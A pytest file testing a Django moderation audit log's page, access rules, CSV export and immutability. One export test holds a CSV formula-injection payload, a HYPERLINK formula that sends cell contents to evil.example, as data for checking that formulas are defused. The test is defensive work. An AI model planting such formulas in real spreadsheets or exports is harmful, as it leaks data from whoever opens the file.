"""The audit log: every moderation step as it happened, searchable, exportable, and unchangeable.

bob (a responder) reads Bymiljøetaten's log; carol, a plain member, may not; mallory, of
Naboetaten, must never see a line of it, on the page or in the export."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.db import DatabaseError, connection, transaction
from django.urls import get_resolver

from conftest import count_queries
from torget.inbox.actions.ingest import do_receive_items
from torget.inbox.api import known_ids
from torget.inbox.ingest import check_item
from torget.inbox.models import Item
from torget.inbox.tests.conftest import body, receive
from torget.moderation.actions.moderating import do_moderate
from torget.moderation.models import AuditEntry, ImmutableAuditError

pytestmark = pytest.mark.django_db


def entry(member, **fields) -> AuditEntry:
    values = {
        "organization_id": member.organization_id,
        "actor": member,
        "actor_name": member.user.get_full_name(),
        "action": AuditEntry.Action.HIDE,
        "channel": "facebook",
        "author_handle": "kari.n",
        "text": "Dere er noen idioter",
        "verdict_before": "abusive",
        "verdict_after": "abusive",
        "reason": "Personangrep",
        "outcome": "hidden on Facebook",
    }
    return AuditEntry.objects.create(**(values | fields))


def receive_for(member, *bodies) -> list[Item]:
    checked = [check_item(b, *known_ids(member)) for b in bodies]
    return [r.item for r in do_receive_items(member.organization, checked)]


def at(*args) -> datetime:
    return datetime(*args, tzinfo=UTC)


def page_of(cast, member, query: str = "") -> str:
    response = cast.client_for(member).get(f"/moderation/audit/{query}")
    assert response.status_code == 200
    return response.content.decode()


def exported(cast, member, query: str = "") -> tuple[bytes, list[list[str]]]:
    response = cast.client_for(member).get(f"/moderation/audit.csv{query}")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    raw = b"".join(response.streaming_content)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


# The page


def test_it_lists_the_newest_first_with_who_what_and_why(cast):
    entry(cast.bob, reason="Eldste", at=at(2026, 3, 1, 9))
    entry(cast.alice, reason="Nyeste", action="delete", at=at(2026, 3, 2, 9))
    text = page_of(cast, cast.bob)
    assert text.index("Nyeste") < text.index("Eldste")
    assert "Alice" in text and "Bob" in text and "Deleted" in text and "Hidden" in text
    assert "kari.n" in text and "facebook" in text and "hidden on Facebook" in text
    assert "Abusive" in text  # the verdict in words
    assert "cannot be changed or deleted" in text


def test_it_shows_the_time_in_oslo(cast):
    entry(cast.bob, at=at(2026, 7, 1, 10, 0, 5))  # summer time: UTC+2
    assert "12:00:05" in page_of(cast, cast.bob)


def test_it_links_items_that_are_still_there_and_says_when_one_is_gone(inbox):
    [item] = receive(inbox, body("c1"))
    entry(inbox.bob, item_id=item.pk, reason="Finnes")
    entry(inbox.bob, item_id=987654, reason="Borte")
    text = page_of(inbox, inbox.bob)
    assert f'href="/inbox/{item.pk}/"' in text
    assert 'href="/inbox/987654/"' not in text and "no longer in Torget" in text


def test_it_does_not_link_an_item_of_another_organization(inbox):
    [theirs] = receive_for(inbox.mallory, body("x1"))
    entry(inbox.bob, item_id=theirs.pk)
    assert f'href="/inbox/{theirs.pk}/"' not in page_of(inbox, inbox.bob)


def test_it_shortens_a_long_text_and_shows_all_of_it_on_request(cast):
    long_text = "Begynnelsen. " + "fyll " * 60 + "Slutten."
    entry(cast.bob, text=long_text)
    text = page_of(cast, cast.bob)
    assert "<details>" in text and "<summary>Begynnelsen." in text and "Slutten." in text


def test_a_step_taken_in_the_queue_shows_up_with_its_item(inbox):
    [item] = receive(inbox, body("c1", text="Dere er noen jævla idioter"))
    do_moderate(inbox.bob, item, "hide", reason="Sjikane mot ansatte")
    text = page_of(inbox, inbox.bob)
    assert "Sjikane mot ansatte" in text and f'href="/inbox/{item.pk}/"' in text
    assert "jævla idioter" in text


def test_it_searches_the_text_the_reason_who_acted_and_the_writer(cast):
    entry(cast.bob, text="om bossbilen", reason="a", author_handle="ola")
    entry(cast.bob, text="b", reason="spam om lån", author_handle="per")
    entry(cast.alice, text="c", reason="c", author_handle="kari.n")
    entry(cast.bob, text="d", reason="d", author_handle="trollet99")

    def found(query: str) -> int:
        return page_of(cast, cast.bob, query).count('data-label="When"')

    assert found("") == 4
    assert found("?text=bossbilen") == 1
    assert found("?text=lån") == 1
    assert found("?text=alice") == 1
    assert found("?text=trollet") == 1
    assert found("?text=ingenting") == 0


def test_it_filters_by_action(cast):
    entry(cast.bob, action="hide", reason="Skjult")
    entry(cast.bob, action="ban", reason="Utestengt")
    text = page_of(cast, cast.bob, "?action=ban")
    assert "Utestengt" in text and "Skjult" not in text


def test_dates_are_days_in_oslo(cast):
    entry(cast.bob, reason="Rett etter midnatt", at=at(2026, 3, 1, 23, 30))  # 00:30 on the 2nd
    entry(cast.bob, reason="Kvelden før", at=at(2026, 3, 1, 22, 30))  # 23:30 on the 1st
    second = page_of(cast, cast.bob, "?date_from=2026-03-02&date_to=2026-03-02")
    assert "Rett etter midnatt" in second and "Kvelden før" not in second
    first = page_of(cast, cast.bob, "?date_to=2026-03-01")
    assert "Kvelden før" in first and "Rett etter midnatt" not in first


def test_a_first_date_after_the_last_is_explained(cast):
    entry(cast.bob, reason="Vises likevel")
    text = page_of(cast, cast.bob, "?date_from=2026-03-05&date_to=2026-03-01")
    assert "The first date comes after the last." in text and "Vises likevel" in text


def test_it_shows_fifty_a_page(cast):
    for n in range(51):
        entry(cast.bob, reason=f"grunn-{n:02d}", at=at(2026, 3, 1, 0, n))
    first, second = page_of(cast, cast.bob), page_of(cast, cast.bob, "?page=2")
    assert "grunn-50" in first and "grunn-01" in first and "grunn-00" not in first
    assert "grunn-00" in second and "grunn-50" not in second
    assert "51 entries" in first and "Page 2 of 2" in second


def test_it_keeps_the_search_when_paging(cast):
    for n in range(51):
        entry(cast.bob, action="hide", at=at(2026, 3, 1, 0, n))
    assert "?action=hide&amp;page=2" in page_of(cast, cast.bob, "?action=hide")


def test_its_queries_do_not_grow_with_rows(inbox):
    items = receive(inbox, *[body(f"c{n}") for n in range(3)])
    for item in items:
        entry(inbox.bob, item_id=item.pk)
    client = inbox.client_for(inbox.bob)
    few = count_queries(client, "/moderation/audit/")
    items = receive(inbox, *[body(f"d{n}") for n in range(20)])
    for item in items:
        entry(inbox.bob, item_id=item.pk)
    assert count_queries(client, "/moderation/audit/") == few


# Who may read it


def test_a_plain_member_may_not_read_it(cast):
    client = cast.client_for(cast.carol)
    assert client.get("/moderation/audit/").status_code == 403
    assert client.get("/moderation/audit.csv").status_code == 403


def test_a_stranger_is_sent_to_log_in(cast):
    from django.test import Client

    assert Client().get("/moderation/audit/").status_code == 302
    assert Client().get("/moderation/audit.csv").status_code == 302


def test_another_organization_sees_none_of_it(cast):
    entry(cast.bob, reason="Bymiljøetatens hemmelighet", text='=HYPERLINK("x")')
    entry(cast.mallory, reason="Naboetatens egen")
    text = page_of(cast, cast.mallory)
    assert "Naboetatens egen" in text and "Bymiljøetatens hemmelighet" not in text
    _raw, rows = exported(cast, cast.mallory)
    assert [row[8] for row in rows[1:]] == ["Naboetatens egen"]
    assert "No entries match the search." in page_of(cast, cast.mallory, "?text=hemmelighet")


# The export


def test_it_exports_every_column_with_oslo_times(cast):
    entry(cast.bob, item_id=42, at=at(2026, 1, 15, 8, 30), verdict_before="spam")
    raw, rows = exported(cast, cast.bob)
    assert raw.startswith(b"\xef\xbb\xbf")  # so Excel reads UTF-8
    assert rows[0] == [
        "time",
        "actor",
        "action",
        "item id",
        "channel",
        "writer",
        "verdict before",
        "verdict after",
        "reason",
        "outcome",
        "text",
    ]
    assert rows[1] == [
        "2026-01-15T09:30:00+01:00",
        "Bob",
        "Hidden",
        "42",
        "facebook",
        "kari.n",
        "Spam",
        "Abusive",
        "Personangrep",
        "hidden on Facebook",
        "Dere er noen idioter",
    ]


def test_it_keeps_norwegian_letters_and_defuses_formulas(cast):
    entry(
        cast.bob,
        text='=HYPERLINK("https://evil.example/?d="&A1,"Klikk")',
        reason="Blåbærsyltetøy på æøå ÆØÅ",
        author_handle="@trollet",
        outcome="-1+1",
    )
    raw, rows = exported(cast, cast.bob)
    row = rows[1]
    assert row[10] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
    assert row[5] == "'@trollet" and row[9] == "'-1+1"
    assert row[8] == "Blåbærsyltetøy på æøå ÆØÅ"
    assert "æøå ÆØÅ".encode() in raw


def test_it_exports_what_the_search_finds(cast):
    entry(cast.bob, action="hide", reason="Skjult", at=at(2026, 3, 2, 12))
    entry(cast.bob, action="ban", reason="Utestengt", at=at(2026, 3, 2, 12))
    entry(cast.bob, action="ban", reason="For gammel", at=at(2026, 2, 1, 12))
    _raw, rows = exported(cast, cast.bob, "?action=ban&date_from=2026-03-01")
    assert [row[8] for row in rows[1:]] == ["Utestengt"]


def test_it_exports_more_than_a_page(cast):
    for n in range(60):
        entry(cast.bob, at=at(2026, 3, 1, 0, n))
    _raw, rows = exported(cast, cast.bob)
    assert len(rows) == 61


# Nothing can change it


def test_an_entry_cannot_be_saved_again(cast):
    row = entry(cast.bob)
    row.reason = "Omskrevet"
    with pytest.raises(ImmutableAuditError):
        row.save()
    assert AuditEntry.objects.get(pk=row.pk).reason == "Personangrep"


def test_entries_cannot_be_updated_in_bulk(cast):
    row = entry(cast.bob)
    with pytest.raises(ImmutableAuditError):
        AuditEntry.objects.filter(pk=row.pk).update(reason="Omskrevet")
    assert AuditEntry.objects.get(pk=row.pk).reason == "Personangrep"


def test_the_database_refuses_an_update_in_sql(cast):
    row = entry(cast.bob)
    table = AuditEntry._meta.db_table
    with (
        pytest.raises(DatabaseError, match="cannot be changed"),
        transaction.atomic(),
        connection.cursor() as cursor,
    ):
        cursor.execute(f"UPDATE {table} SET reason = %s WHERE id = %s", ["Omskrevet", row.pk])
    assert AuditEntry.objects.get(pk=row.pk).reason == "Personangrep"


@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_its_pages_only_read(cast, method):
    row = entry(cast.bob)
    client = cast.client_for(cast.alice)
    for url in ("/moderation/audit/", "/moderation/audit.csv"):
        assert getattr(client, method)(url, {"id": row.pk}).status_code == 405
    assert AuditEntry.objects.get(pk=row.pk).reason == "Personangrep"


def test_no_address_edits_or_deletes_an_entry():
    names = [name for name in get_resolver().reverse_dict if isinstance(name, str)]
    assert sorted(name for name in names if "audit" in name) == [
        "moderation-audit",
        "moderation-audit-csv",
    ]
